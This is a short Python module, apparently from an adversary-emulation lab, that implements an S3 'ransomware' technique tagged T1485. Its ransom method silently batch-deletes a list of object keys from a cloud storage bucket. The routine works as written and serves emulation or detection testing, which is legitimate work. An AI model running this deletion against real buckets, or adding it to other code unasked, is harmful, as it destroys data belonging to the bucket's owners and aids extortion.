"""s3-ransomware-batch-deletion: delete a bucket's objects in batches (T1485)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from lab.attacks.s3_ransomware import S3RansomwareTechnique


class S3RansomwareBatchDeletion(S3RansomwareTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-ransomware-batch"

    def ransom(self, s3: Any, bucket: str, keys: list[str]) -> None:
        s3.delete_objects(
            Bucket=bucket, Delete={"Objects": [{"Key": k} for k in keys], "Quiet": True}
        )


TECHNIQUE = S3RansomwareBatchDeletion
